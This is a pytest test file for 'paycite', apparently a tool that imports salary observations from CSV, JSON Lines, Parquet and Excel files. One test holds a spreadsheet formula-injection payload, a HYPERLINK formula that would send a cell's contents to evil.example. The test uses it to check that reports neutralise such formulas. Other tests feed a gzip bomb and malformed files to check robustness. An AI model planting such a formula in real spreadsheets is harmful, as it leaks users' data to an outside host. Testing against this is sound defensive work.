import csv
import datetime
import gzip
import json
import shutil
import subprocess
from collections.abc import Callable, Iterable
from io import BytesIO
from pathlib import Path
from typing import Any

import duckdb
import msgspec
import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from paycite.dataset.observations import employers
from paycite.importers import ImportRefused, observations
from paycite.importers.common.fields import FieldParser
from paycite.importers.common.observations import import_observations
from paycite.importers.observations import COLUMNS, NOTE, Layout
from paycite.model.figure import Published, Source
from paycite.model.observation import Observation, Observed, RefusedRow
from paycite.model.snapshot import Snapshot
from support.commands import paycite
from support.folders import contents, shared_file
from support.ugly_placements import write_placements

SOURCE = Source(
    id="acme-placements",
    publisher="Acme Staffing",
    originators=("Acme Staffing",),
    title="Placements",
    published=Published(precision="none"),
    citation="Acme Staffing, Placements",
    license="not stated",
    sha256="0" * 64,
)
PLACED = Layout(kind="placement")
ROW = {"title": "Data Engineer", "amount": "150000"}
Read = Callable[..., list[Observation | RefusedRow]]


@pytest.fixture(scope="module")
def parser(snapshot: Snapshot) -> FieldParser:
    return FieldParser(snapshot)


def write(file: Path, rows: Iterable[dict[str, Any]]) -> Path:
    """The rows in the format that the name of the file says."""
    rows = list(rows)
    columns = list(dict.fromkeys(column for row in rows for column in row))
    if file.suffix == ".csv":
        with file.open("w", encoding="utf-8", newline="") as opened:
            writer = csv.DictWriter(opened, columns)
            writer.writeheader()
            writer.writerows(rows)
    elif file.suffix == ".jsonl":
        file.write_bytes(b"".join(msgspec.json.encode(row) + b"\n" for row in rows))
    else:
        write(file.with_suffix(".jsonl"), rows)
        duckdb.execute(
            f"copy (from read_json('{file.with_suffix('.jsonl')}')) to '{file}' (format parquet)"
        )
    return file


@pytest.fixture
def read(parser: FieldParser, tmp_path: Path) -> Read:
    """Reads rows, given as a file or as dicts."""

    def read(
        rows: Path | Iterable[dict[str, Any]], layout: Layout = PLACED
    ) -> list[Observation | RefusedRow]:
        file = rows if isinstance(rows, Path) else write(tmp_path / "rows.csv", rows)
        return list(observations.read_observations([file], layout, parser))

    return read


def accepted(rows: list[Observation | RefusedRow]) -> list[Observation]:
    assert not [row for row in rows if isinstance(row, RefusedRow)]
    return [row for row in rows if isinstance(row, Observation)]


# The command.

ROWS: list[dict[str, Any]] = [
    {
        "job_title": "Senior Data Engineer",
        "location": "Oakland, CA",
        "min": 150_000,
        "max": 170_000.5,
        "posted": "2024-03-01",
        "period": None,
        "employer": "Acme",
        "url": "https://acme.example/1",
    },
    {
        "job_title": "ML Engineer II",
        "location": "94105",
        "min": 62.5,
        "max": 62.5,
        "posted": "2024-03-02",
        "period": "hourly",
        "employer": None,
        "url": None,
    },
    {
        "job_title": "Pastry Chef",
        "location": None,
        "min": 50_000,
        "max": 60_000,
        "posted": None,
        "period": "year",
        "employer": None,
        "url": None,
    },
]
CITED = ("--source", SOURCE.id, "--publisher", SOURCE.publisher, "--title", SOURCE.title)
RENAMED = (
    *("--column", "job_title=title", "--column", "location=place", "--column", "posted=date"),
    *("--ignore", "url"),
)
REPORTED = """\
Imported acme-placements: 2 observations from 1 employer. Skipped 0 repeated rows.
Refused 1 row: Paycite does not know the title.
"""


def command(data: Path, *arguments: object) -> subprocess.CompletedProcess[str]:
    return paycite(data, "import", "observations", *arguments)


@pytest.fixture
def own(data: Path, tmp_path: Path) -> Path:
    """A data folder of the test's own."""
    shutil.copytree(data / "datasets", tmp_path / "own" / "datasets")
    return tmp_path / "own"


def test_a_place_that_was_corrected_is_reported(own: Path, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("title,place,amount\nData Engineer,2139,150000\nData Engineer,02139,160000\n")
    result = command(own, *CITED, "--kind", "offer", rows)
    assert "Corrected a place: '2139' is matched to boston-ma.\n" in result.stdout
    assert result.stdout.count("Corrected") == 1


def test_rows_that_are_too_recent_are_counted_with_the_date_that_they_need(
    own: Path, tmp_path: Path
) -> None:
    (dataset,) = (own / "datasets").glob("*.duckdb")
    as_of = datetime.date.fromisoformat(dataset.stem[:10])
    assert as_of == datetime.date(2026, 5, 15)
    days = ("2026-02-15", "2026-02-16", "2026-11-30", "")
    rows = [
        {"title": "MLE", "amount": 150_000 + number, "date": day} for number, day in enumerate(days)
    ]
    file = write(tmp_path / "pay.csv", rows)
    sentence = (
        "Not used yet: 2 rows of acme-placements dated after 2026-02-15, 3 months before the date "
        "of the dataset (2026-05-15). A dataset dated 2027-03-01 or later uses all of them: see "
        "`paycite build --as-of`."
    )
    done = command(own, file, *CITED, "--kind", "placement")
    assert sentence in done.stdout.splitlines()
    public = command(own, file, *CITED, "--kind", "placement", "--public")
    assert "Not used yet" not in public.stdout
    later = command(own, file, *CITED, "--kind", "placement", "--published", "2027-03-01")
    assert later.returncode == 0
    assert "Not used yet" not in later.stdout


def refused_rows(own: Path) -> list[dict[str, str]]:
    report = own / "observations" / "acme-placements.refused.csv"
    with report.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_no_spreadsheet_runs_what_a_report_repeats(own: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"more")'
    rows = [*ROWS, {**ROWS[2], "job_title": formula}]
    done = command(
        own, write(tmp_path / "rows.jsonl", rows), *CITED, *RENAMED, "--kind", "placement"
    )
    assert done.returncode == 0, done.stderr
    assert [row["job_title"] for row in refused_rows(own)] == ["Pastry Chef", f"'{formula}"]


def test_csv_json_lines_and_parquet_of_the_same_rows_give_the_same_observations(
    own: Path, tmp_path: Path
) -> None:
    imported = {}
    for ending in ("csv", "jsonl", "parquet"):
        file = write(tmp_path / f"rows.{ending}", ROWS)
        done = command(own, file, *CITED, *RENAMED, "--kind", "placement")
        assert done.returncode == 0, done.stderr
        assert REPORTED in done.stdout
        imported[ending] = contents(own / "observations")
        report = refused_rows(own)
        assert [(row["job_title"], row["min"], row["reason"]) for row in report] == [
            ("Pastry Chef", "50000", "Paycite does not know the title: Pastry Chef")
        ]
    numbers = {ending: files["acme-placements.parquet"] for ending, files in imported.items()}
    assert len(set(numbers.values())) == 1
    file = own / "observations" / "acme-placements.parquet"
    found = duckdb.execute("select * exclude id from read_parquet($1)", [str(file)]).fetchall()
    march = [datetime.date(2024, 3, day) for day in (1, 2)]
    assert found == [
        (
            *("ai-ml-engineer", None, "mid", "san-francisco-ca", "ML Engineer II", "94105", None),
            *(130_000, 130_000, "base", "placement", march[1]),
        ),
        (
            *("data-engineer", None, "senior", "san-francisco-ca"),
            *("Senior Data Engineer", "Oakland, CA", "Acme"),
            *(150_000, 170_000.5, "base", "placement", march[0]),
        ),
    ]


def test_the_source_is_cited_as_the_options_say(own: Path, tmp_path: Path) -> None:
    files = [write(tmp_path / f"{name}.csv", [ROW]) for name in "ab"]
    options = ("--license", "CC0 1.0", "--originator", "Beta", "--originator", "Gamma")
    day = datetime.date(2024, 4, 1)
    done = command(own, *files, *CITED, *options, "--published", day, "--kind", "placement")
    assert done.returncode == 0, done.stderr
    about = msgspec.json.decode(
        (own / "observations" / "acme-placements.json").read_bytes(), type=Observed
    )
    sums = subprocess.run(
        "sha256sum a.csv b.csv | sort | sha256sum",
        shell=True,
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert about.source == msgspec.structs.replace(
        SOURCE,
        originators=("Beta", "Gamma"),
        published=Published(date=day, precision="day"),
        citation="Acme Staffing, Placements, 2024-04-01",
        license="CC0 1.0",
        sha256=sums.stdout.split()[0],
        is_private=True,
    )
    assert (about.kind, about.rows, about.note) == ("placement", 1, NOTE)
    assert "2,080 hours" in about.note


def test_an_import_of_other_pay_than_the_base_says_that_no_estimate_uses_it(
    own: Path, tmp_path: Path
) -> None:
    file = write(tmp_path / "rows.csv", [ROW])
    for component, is_used in (("total_cash", False), ("base", True)):
        done = command(own, file, *CITED, "--kind", "placement", "--component", component)
        assert done.returncode == 0, done.stderr
        assert ("no estimate uses acme-placements" in done.stdout) == (not is_used)


USAGE = {
    "a source id that is no file name": (
        ("--source", "../x"),
        "lower-case letters, digits and hyphens",
    ),
    "the id of figures in the seeds": (
        ("--source", "bls-oews-2025-05"),
        "'bls-oews-2025-05' is already a source of figures",
    ),
    "an unknown column of ours": (("--column", "pay=salary"), "OURS is one of id, role, title"),
    "a column without a name of ours": (("--column", "pay"), "is not NAME=OURS"),
    "a column read twice": (("--column", "a=min", "--column", "a=max"), "Give each NAME once"),
    "an address that is none": (("--url", "acme.example"), "The source cannot be cited"),
    "an empty title": (("--title", ""), "a source needs an id"),
    "an unknown kind": (("--kind", "rumour"), "'rumour' is not one of 'advertised'"),
    "a missing column": (("--column", "pay=amount"), "no column 'pay'; there are title, amount"),
    "no kind": ((), "the file has no column `kind`: give --kind, one of advertised, filed"),
}


@pytest.mark.parametrize("name", USAGE)
def test_options_that_cannot_hold_import_nothing(name: str, own: Path, tmp_path: Path) -> None:
    options, reason = USAGE[name]
    done = command(own, write(tmp_path / "rows.csv", [ROW]), *CITED, *options)
    assert done.returncode != 0
    assert reason in " ".join(done.stderr.split())
    assert not list((own / "observations").glob("*"))


def test_an_export_of_another_program_is_read_as_it_is_and_the_reading_is_reported(
    own: Path, tmp_path: Path
) -> None:
    (file := tmp_path / "export.csv").write_text(
        "Job Title|City|State|Salary|Client|Start Date|Recruiter\n"
        "Data Engineer|Boston|MA|$120k|Acme|2/25/2025|Pat\n"
    )
    done = command(own, file, *CITED, "--kind", "placement")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[:5] == [
        "Read export.csv: UTF-8, separated by pipes.",
        "Columns: Job Title as title, City as city, State as state, Salary as amount, Client as "
        "employer, Start Date as date. Not used: Recruiter.",
        "Dates: month/day/year (1).",
        "Imported acme-placements: 1 observation from 1 employer. Skipped 0 repeated rows.",
        done.stdout.splitlines()[4],
    ]
    file.write_text("title,amount,date\nData Engineer,150000,3/2/2025\n")
    asked = command(own, file, *CITED, "--kind", "placement")
    assert asked.returncode == 1 and "--dates mdy" in asked.stderr
    done = command(own, file, *CITED, "--kind", "placement", "--dates", "dmy")
    assert "Dates: day/month/year (1)." in done.stdout


def test_a_dry_run_shows_the_reading_and_ten_rows_and_writes_nothing(
    own: Path, tmp_path: Path
) -> None:
    (file := tmp_path / "export.csv").write_text(
        "Job Title,City,State,Salary,Client,Start Date\nChef,,,1,Acme,\n"
        + "Sr. Data Engineer,Boston,MA,$120k,Acme,2/25/2025\n" * 11
    )
    done = command(own, file, *CITED, "--kind", "placement", "--dry-run")
    assert done.returncode == 0, done.stderr
    said = done.stdout.splitlines()
    assert "Job Title as title" in said[1] and said[2] == "Dates: month/day/year (11)."
    assert said[3:] == [
        "  refused: Paycite does not know the title: 'Chef'; the pay is not from $10,000 to "
        "$10,000,000 a year: '$1 a year'",
        *["  Sr. Data Engineer: data-engineer, senior, boston-ma, $120,000 a year, base, Acme, "
          "2025-02-25"] * 9,
        "Read 12 rows: 11 would be imported. Nothing was written.",
        "Refused 1 row: Paycite does not know the title.",
    ]  # fmt: skip
    assert not (own / "observations").exists()


def test_refused_rows_are_listed_as_in_their_file_with_all_faults_and_added_when_corrected(
    own: Path, tmp_path: Path
) -> None:
    rows = [
        {
            "Desk": "é",
            "Job Title": "Chef",
            "Location": "Narnia",
            "Salary": "48.80",
            "Start": "soon",
        },
        {"Desk": "b", "Job Title": "Data Engineer", "Location": "", "Salary": "$120k", "Start": ""},
    ]
    options = (*CITED, "--kind", "placement", "--ignore", "Desk")
    done = command(own, write(tmp_path / "rows.csv", rows), *options)
    assert done.returncode == 0, done.stderr
    (refused,) = refused_rows(own)
    assert list(refused) == [*rows[0], "reason", "suggestions"]
    assert {column: refused[column] for column in rows[0]} == rows[0]
    for reason in ("title: Chef; the pay is not", "place: Narnia; the date", "2026: soon"):
        assert reason in refused["reason"], refused
    assert "48.8/hr" in refused["suggestions"]

    refused |= {"Job Title": "Data Analyst", "Location": "NYC", "Salary": "48.80/hr", "Start": ""}
    corrected = write(tmp_path / "corrected.csv", [refused])
    done = command(own, corrected, *options, "--append")
    assert "2 observations" in done.stdout, done.stderr
    assert refused_rows(own) == []
    again = command(own, corrected, *options, "--append")
    assert "2 observations from 0 employers. Skipped 1 repeated row." in again.stdout
    opened = command(own, corrected, *options, "--append", "--public")
    assert "is private. Leave --public out" in opened.stderr
    absent = command(own, corrected, *options, "--append", "--source", "other")
    assert "there are no rows to add to. Leave --append out" in absent.stderr


def test_ugly_placements_are_read_as_they_are_meant(parser: FieldParser, tmp_path: Path) -> None:
    right = taken = 0
    for file, placements in write_placements(tmp_path):
        rows = list(observations.read_observations([file], PLACED, parser))
        for placement, row in zip(placements, rows, strict=True):
            right += placement.is_right
            if isinstance(row, Observation):
                assert placement.is_right
                place = parser.parse_place(f"{placement.city}, {placement.state}")
                assert (row.low, row.high, row.date, row.geography) == (
                    *(placement.yearly, placement.yearly, placement.day, place),
                )
                taken += 1
    assert taken >= 0.95 * right


def test_without_a_dataset_the_command_says_what_to_do(tmp_path: Path) -> None:
    done = command(tmp_path, write(tmp_path / "rows.csv", [ROW]), *CITED, "--kind", "offer")
    assert done.returncode == 1
    assert "run `paycite build`\nNothing was imported." in done.stderr


# How a row is read.

READ: dict[str, tuple[dict[str, object], dict[str, object]]] = {
    "pay as people write it": (
        {"amount": "$61.45/hr + equity"},
        {"low": 127_816.0, "high": 127_816.0},
    ),
    "a range in one text": ({"amount": "120-150k"}, {"low": 120_000.0, "high": 150_000.0}),
    "ends with their period": (
        {"amount": "", "min": "$9,000.50", "max": "$10,000/month"},
        {"low": 108_006.0, "high": 120_000.0},
    ),
    "the nation where no place is stated": ({}, {"geography": "us", "place": None}),
    "a CBSA code is a place": ({"place": "41860"}, {"geography": "san-francisco-ca"}),
    "a title says role and level": (
        {"title": "Sr. Data Engineer"},
        {"role": "data-engineer", "level": "senior", "title": "Sr. Data Engineer"},
    ),
    "years win over the title": ({"title": "Senior Data Engineer", "years": 1}, {"level": "entry"}),
    "a level wins over years": ({"years": 1, "level": "Sr."}, {"level": "senior"}),
    "a role wins over the title, which may still say the level": (
        {"role": "data-scientist", "title": "Staff Data Engineer"},
        {"role": "data-scientist", "level": "staff", "title": "Staff Data Engineer"},
    ),
    "a role may stand beside any title": (
        {"role": "data-scientist", "title": "Wizard"},
        {"role": "data-scientist", "level": None, "title": "Wizard"},
    ),
    "a title wins over the occupation": (
        {"occupation": "15-1252"},
        {"role": "data-engineer", "occupation": None},
    ),
    "an occupation that is a role is that role": (
        {"title": "", "occupation": "15-1252.00"},
        {"role": "software-engineer", "occupation": "15-1252", "title": None},
    ),
    "an occupation stands in for a title that names no role": (
        {"title": "Systems Wizard", "occupation": "151211", "years": 9},
        {"role": None, "occupation": "15-1211", "level": "senior", "title": "Systems Wizard"},
    ),
    "a single amount is both ends": (
        {"amount": "$150,000.00"},
        {"low": 150_000.0, "high": 150_000.0},
    ),
    "an hourly wage is annualised by 2080 hours": (
        {"amount": "50", "period": "Hourly"},
        {"low": 104_000.0, "high": 104_000.0},
    ),
    "the cell of pay may say its period": (
        {"amount": "$48.80/hr"},
        {"low": 101_504.0, "high": 101_504.0},
    ),
    "the cell of pay may say its thousands": ({"amount": "$120k"}, {"low": 120_000.0}),
    "the cell of pay may say its currency": ({"amount": "120,000.00 USD"}, {"low": 120_000.0}),
    "the header of pay may say its period": (
        {"amount": None, "Hourly Rate": "48.80"},
        {"low": 101_504.0},
    ),
    "the period of a cell wins over that of the header": (
        {"amount": None, "Hourly Rate": "$120k/year"},
        {"low": 120_000.0},
    ),
    "a type of pay is a period": (
        {"amount": None, "Pay Rate": "50", "Pay Type": "Hourly"},
        {"low": 104_000.0},
    ),
    "a place may be in several columns": (
        {"City": "Boston", "State": "MA", "Zip": "2110"},
        {"place": "Boston, MA 02110", "geography": "boston-ma"},
    ),
    "a ZIP code says where an unknown city is": (
        {"City": "Elsewhere", "State": "MA", "Zip": "2139-1234"},
        {"place": "Elsewhere, MA 02139", "geography": "boston-ma"},
    ),
    "a range is its two ends": (
        {"amount": "", "min": "5,000", "max": "6000", "period": "month"},
        {"low": 60_000.0, "high": 72_000.0},
    ),
    "pay is of the base where nothing says otherwise": ({}, {"component": "base"}),
    "a row says its own kind and pay element": (
        {"kind": "Offer", "component": "total_cash"},
        {"kind": "offer", "component": "total_cash"},
    ),
    "a date may have a time": (
        {"date": "2024-03-01T23:00:00-08:00"},
        {"date": datetime.date(2024, 3, 1)},
    ),
    "an id is kept as it is": ({"id": " P-1 ", "currency": "usd"}, {"id": "P-1"}),
}


@pytest.mark.parametrize("name", READ)
def test_a_row_is_read_so_that(name: str, read: Read) -> None:
    cells, expected = READ[name]
    layout = Layout() if "kind" in cells else PLACED
    row = {column: cell for column, cell in (ROW | cells).items() if cell is not None}
    (found,) = accepted(read([row], layout))
    assert {field: getattr(found, field) for field in expected} == expected


REFUSED: dict[str, tuple[dict[str, object], str, str]] = {
    "an unknown title": ({"title": "Chef"}, "Paycite does not know the title", "Chef"),
    "an ambiguous title, whatever the occupation": (
        {"title": "Data Engineer / Data Scientist", "occupation": "15-1252"},
        *("the title is ambiguous", "Data Engineer / Data Scientist"),
    ),
    "an unknown role, whatever the title": (
        {"role": "wizard"},
        *("Paycite does not know the title", "wizard"),
    ),
    "an unknown occupation": (
        {"title": "", "occupation": "29-1141"},
        *("Paycite does not know the occupation", "29-1141"),
    ),
    "no job": ({"title": ""}, "the row has neither a title nor an occupation", ""),
    "an unknown level": ({"level": "guru"}, "Paycite does not know the level", "guru"),
    "years that are no number": ({"years": "5+"}, "the years is not a number", "5+"),
    "a place abroad": ({"place": "Toronto"}, "Paycite does not know the place", "Toronto"),
    "no pay": ({"amount": ""}, "the row has no pay", ""),
    "pay in words": ({"amount": "DOE"}, "the amount is not a number", "DOE"),
    "pay with an open end": (
        {"amount": "$150k+"},
        *("the row has only one end of a range", "$150k+"),
    ),
    "pay in pounds": ({"amount": "£90k"}, "the amount is in another currency", "£90k"),
    "total pay": (
        {"amount": "$150k OTE"},
        *("the amount is total compensation, not base pay", "$150k OTE"),
    ),
    "pay whose ends are swapped": (
        {"amount": "180,000-150,000"},
        *("the amount has a minimum above its maximum", "180,000-150,000"),
    ),
    "pay without its period": (
        {"amount": "$65"},
        *("the pay is not from $10,000 to $10,000,000 a year", "$65 a year"),
    ),
    "a day that does not exist": (
        {"date": "2025-02-30"},
        *("the date has a day that does not exist", "2025-02-30"),
    ),
    "pay of a contractor": (
        {"amount": "$80/hr C2C"},
        *("the amount is a contractor's pay, not an employee's base pay", "$80/hr C2C"),
    ),
    "pay for part-time work": (
        {"amount": "$70,000 part time"},
        *("the amount is pay for part-time work", "$70,000 part time"),
    ),
    "a title of part-time work": (
        {"title": "Part-time Data Engineer"},
        *("the title is that of part-time or contract work", "Part-time Data Engineer"),
    ),
    "a range as an end": (
        {"amount": "", "min": "90k-95k", "max": "100k"},
        *("the minimum is not a number", "90k-95k"),
    ),
    "pay of another period than its column": (
        {"amount": "$48/hr", "period": "year"},
        *("the pay says another period", "hour, not year"),
    ),
    "pay with a decimal comma": ({"amount": "48,5"}, "the amount is not a number", "48,5"),
    "half a range": (
        {"amount": "", "min": "100000", "max": ""},
        *("the row has only one end of a range", "100000 to None"),
    ),
    "an amount beside a range": (
        {"min": "100000", "max": "200000"},
        *("the row has both an amount and a range", "150000; 100000 to 200000"),
    ),
    "an unknown period": ({"period": "gig"}, "unknown pay period", "gig"),
    "a yearly amount by the hour": (
        {"period": "hour"},
        *("more than $1,000,000 a year, so the pay is for another period", "$150,000 an hour"),
    ),
    "another currency": ({"currency": "CAD"}, "the currency is not USD", "CAD"),
    "an unknown pay element": (
        {"component": "perks"},
        *("the component is not one of base, total_cash, total_comp", "perks"),
    ),
    "another kind than that of all": (
        {"kind": "offer"},
        *("the kind is not placement, the value of `--kind` for all rows", "offer"),
    ),
    "half a date": (
        {"date": "2024-03"},
        *("the date is not written like 2026-01-31 or 1/31/2026", "2024-03"),
    ),
    "pay of another period than the column says": (
        {"amount": "$48.80/hr", "period": "year"},
        *("the pay says another period", "hour, not year"),
    ),
    "a date to come": ({"date": "2999-01-01"}, "the date is in the future", "2999-01-01"),
    "a ZIP code of another state": (
        {"city": "Boston", "state": "MA", "zip": "94105"},
        *("the place is ambiguous", "Boston, MA 94105"),
    ),
    "a NUL": ({"employer": "A\0B"}, "a text contains the character NUL", "A\0B"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_row_is_refused_with_its_place_for(name: str, read: Read, tmp_path: Path) -> None:
    cells, reason, value = REFUSED[name]
    columns = dict.fromkeys([*ROW, *cells])
    first, found, last = read([columns | ROW, ROW | cells, columns | ROW])
    assert isinstance(found, RefusedRow)
    assert (found.place, found.reason, found.value) == (
        *(f"{tmp_path / 'rows.csv'}, line 3", reason, value),
    )
    assert not found.others
    assert accepted([first, last])


def test_a_row_of_more_or_fewer_cells_costs_no_other(read: Read, tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    file.write_text("title,amount\nData Engineer,1,2\nData Engineer,150000\n\n,\nData Engineer\n")
    found = read(file)
    reason = "the row has more or fewer cells than columns"
    assert [(row.place, row.reason) for row in found if isinstance(row, RefusedRow)] == [
        (f"{file}, line {line}", reason) for line in (2, 6)
    ]
    assert len(found) == 3


def test_a_line_that_is_no_json_object_costs_no_other(read: Read, tmp_path: Path) -> None:
    lines = [json.dumps(ROW), "{", "[1]", '"text"', '{"title": NaN}', '{"title": "\\ud800"}', ""]
    file = tmp_path / "rows.jsonl"
    file.write_text("\n".join([*lines, json.dumps(ROW)]))
    found = read(file)
    assert [row.reason for row in found if isinstance(row, RefusedRow)] == [
        "the line is not a JSON object"
    ] * 6
    assert len(found) == 8


CELLS: dict[str, tuple[str, object]] = {
    "a whole float": ("150000.0::double", 150_000.0),
    "a decimal": ("150000.50::decimal(10, 2)", 150_000.5),
    "an integer": ("150000::bigint", 150_000.0),
    "NaN": ("'nan'::double", "a value is not text, a number or a date"),
    "infinity": ("'inf'::double", "a value is not text, a number or a date"),
    "a list": ("[150000]", "a value is not text, a number or a date"),
    "a struct": ("{'value': 150000}", "a value is not text, a number or a date"),
    "a truth value": ("true", "a value is true or false; expected text or a number"),
    "null": ("null::double", "the row has no pay"),
}


@pytest.mark.parametrize("name", CELLS)
def test_a_cell_of_parquet_is_read_as_the_text_of_csv_would_be(
    name: str, read: Read, tmp_path: Path
) -> None:
    cell, expected = CELLS[name]
    file = tmp_path / "rows.parquet"
    duckdb.execute(
        f"""copy (
            select 'Data Engineer' as title, {cell} as amount, 7.0 as years, 41860 as place,
            timestamptz '2024-03-01 00:00:00+00' as date, [1] as ignored
        ) to '{file}' (format parquet)"""
    )
    (found,) = read(file, Layout(kind="survey", ignored=frozenset({"ignored"})))
    if isinstance(found, RefusedRow):
        assert (found.place, found.reason) == (f"{file}, row 1", expected)
    else:
        assert (found.low, found.level, found.geography) == (expected, "senior", "san-francisco-ca")
        assert found.date == datetime.date(2024, 3, 1)


def test_the_folder_of_a_parquet_file_is_no_column_of_it(read: Read, tmp_path: Path) -> None:
    (folder := tmp_path / "level=entry").mkdir()
    file = write(tmp_path / "rows.parquet", [ROW]).rename(folder / "rows [1]*.parquet")
    (found,) = accepted(read(file))
    assert found.level is None


def test_the_path_of_a_parquet_file_is_no_pattern(read: Read, tmp_path: Path) -> None:
    files = []
    for name in ("[p]ay[1]", "pay1", "pay*", "pay?", "pay"):
        (folder := tmp_path / name).mkdir()
        made = write(tmp_path / "rows.parquet", [ROW | {"employer": name}])
        files.append(made.rename(folder / f"{name}.parquet"))
    for file in files:
        assert [one.employer for one in accepted(read(file))] == employers(file) == [file.stem]


# Files.


def test_a_spreadsheet_and_a_packed_file_are_read_as_the_plain_file(
    read: Read, tmp_path: Path
) -> None:
    rows = [ROW | {"employer": 'The "Acme", Inc.\nof Oakland'}, ROW | {"place": "Oakland, CA"}]
    plain = write(tmp_path / "rows.csv", rows)
    expected = accepted(read(plain))
    packed = tmp_path / "rows.csv.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    assert read(packed) == expected
    plain.write_bytes(b"\xef\xbb\xbf" + plain.read_bytes().rstrip(b"\r\n"))
    assert read(plain) == expected


def test_the_encoding_and_the_delimiter_are_found_and_reported(own: Path, tmp_path: Path) -> None:
    (file := tmp_path / "export.csv").write_bytes(
        "sep=;\r\ntitle;amount;employer\r\nData Engineer;150,000;Société\r\n".encode("cp1252")
    )
    done = command(own, file, *CITED, "--kind", "placement")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("Read export.csv: Windows-1252, separated by semicolons.\n")
    numbers = own / "observations" / "acme-placements.parquet"
    found = duckdb.execute("select employer, low from read_parquet($1)", [str(numbers)])
    assert found.fetchall() == [("Société", 150_000)]


def test_a_workbook_is_read_from_the_first_sheet_with_a_header_wherever_it_is(
    parser: FieldParser, tmp_path: Path
) -> None:
    book = openpyxl.Workbook()
    cover = book.active
    assert cover
    cover.append(["Placements of 2025"])
    sheet = book.create_sheet("Data")
    for row in (
        *(["Acme Staffing"], [], ["Job Title", "City", "ST", "Zip", "Salary", "Start Date", None]),
        ["Data Engineer", "Elsewhere", "MA", 2139, 120_000, datetime.date(2025, 2, 25)],
        *([], [None, ""], ["Data Engineer", None, None, None, "$120k", "2/25/2025", "?"]),
    ):
        sheet.append(row)
    book.save(file := tmp_path / "export.xlsx")
    said: list[str] = []
    first, last = observations.read_observations([file], PLACED, parser, say=said.append)
    assert isinstance(first, Observation) and isinstance(last, RefusedRow)
    assert (first.low, first.geography, first.date) == (
        *(120_000, "boston-ma", datetime.date(2025, 2, 25)),
    )
    assert (last.place, last.reason, last.value) == (
        *(f"{file}, sheet Data, row 7", "a value is in a column without a name", "?"),
    )
    assert said[0] == "Read export.xlsx: sheet 'Data', header in row 3."


GOOD = b"title,amount\nData Engineer,150000\n"
PARQUET = b"PAR1" + bytes(100) + b"PAR1"


def _headless_workbook() -> bytes:
    openpyxl.Workbook().save(saved := BytesIO())
    return saved.getvalue()[saved.getvalue().index(b"PK\x01\x02") :]


HEADLESS = _headless_workbook()
BAD: dict[str, tuple[str, bytes, str]] = {
    "an unknown column": ("a.csv", b"title,amount,levle\n", "line 1: unknown columns: 'levle' (le"),
    "columns of which a word is known": (
        "a.csv",
        b"Candidate Title,Comp,Nonsense\n",
        "line 1: unknown columns: 'Candidate Title' (title?), 'Comp' (amount?), 'Nonsense'. Skip",
    ),
    "a column twice": (
        "a.csv",
        b"title,amount,title\n",
        "line 1: the column 'title' appears twice",
    ),
    "no job": ("a.csv", b"amount\n1\n", "line 1: the file needs a column with the job: role, "),
    "no pay": (
        "a.csv",
        b"title,min\n",
        "line 1: the file needs columns with the pay: amount, or min and max",
    ),
    "nothing": ("a.csv", b"", "line 1: the file needs a column with the job"),
    "an open quote": (
        "a.csv",
        GOOD + b'"Data,1\nChef,1\n',
        "line 3: not valid CSV: unexpected end of data",
    ),
    "a huge cell": ("a.csv", GOOD + b"x" * 200_000, "not valid CSV: field larger than field limit"),
    "an endless line": ("a.csv", GOOD + b"x" * 10_000_001, "line 3: longer than 10,000,000 bytes"),
    "a thousand columns": (
        "a.csv",
        b"title,amount" + b",x" * 999 + b"\n",
        "1,001 columns; the limit",
    ),
    "a thousand keys": (
        "a.jsonl",
        b'{"title": 1' + b"".join(b', "%d": 1' % n for n in range(1_000)) + b"}",
        "1,001 columns; the limit is 1,000",
    ),
    "a deep document": ("a.jsonl", b"[" * 102 + b"]" * 102, "nested in more than 100 levels"),
    "a bottomless document": ("a.jsonl", b"[" * 99_999, "nested in more than 100 levels"),
    "another encoding": ("a.csv", GOOD + b"\x81,1\n", "line 3: neither UTF-8 nor Windows-1252"),
    "a damaged workbook": ("a.csv", b"PK\x03\x04", "damaged or cut off; download it again"),
    # Found by `make fuzz`: where it begins follows from its end, and is before the file.
    "a workbook without its beginning": ("a.xlsx", HEADLESS, "damaged or cut off; download it"),
    "another ending": (
        "a.txt",
        GOOD,
        "the file name must end with one of .csv, .jsonl, .ndjson, .parquet, .xlsx",
    ),
    "a cut-off packed file": ("a.csv.gz", gzip.compress(GOOD * 99)[:-9], "damaged or cut off"),
    "a gzip bomb": (
        "a.csv.gz",
        gzip.compress(GOOD + (b" " * 9_999 + b"\n") * 999),
        "more than 100 times its size",
    ),
    "JSON over several lines": ("a.jsonl", b"[\n{}\n]", "line 1: not JSON Lines, which have an"),
    "an unknown key": ("a.jsonl", b'{"levle": 1}', "line 1: unknown columns: 'levle' (level?)"),
    "a name twice": (
        "a.jsonl",
        b'{"title": "Chef", "amount": 1}\n{"title": "Chef", "amount": 2, "amount": 3}\n',
        "line 2: the name 'amount' appears twice in an object",
    ),
    "a name twice within": (
        "a.jsonl",
        b'{"title": {"a": [{"b": 1, "b": 1}]}, "amount": 1}\n',
        "line 1: the name 'b' appears twice in an object",
    ),
    "no Parquet": ("a.parquet", GOOD, "not Parquet, or damaged; download it again"),
    "damaged Parquet": ("a.csv", PARQUET, "not Parquet, or damaged; download it again"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_file_of_another_shape_is_refused_and_the_earlier_import_stands(
    name: str, parser: FieldParser, tmp_path: Path
) -> None:
    file_name, content, reason = BAD[name]
    into = tmp_path / "into"
    good, file = tmp_path / "good.csv", tmp_path / file_name
    good.write_bytes(GOOD)
    import_observations(SOURCE, NOTE, observations.read_observations([good], PLACED, parser), into)
    before = contents(into)
    file.write_bytes(content)
    with pytest.raises(ImportRefused) as error:
        import_observations(
            SOURCE, NOTE, observations.read_observations([good, file], PLACED, parser), into
        )
    assert str(error.value).startswith(str(file))
    assert reason in str(error.value)
    assert contents(into) == before


def test_two_columns_may_not_be_read_as_one(read: Read) -> None:
    with pytest.raises(ImportRefused, match="two columns are read as 'title'; the second is 'x'"):
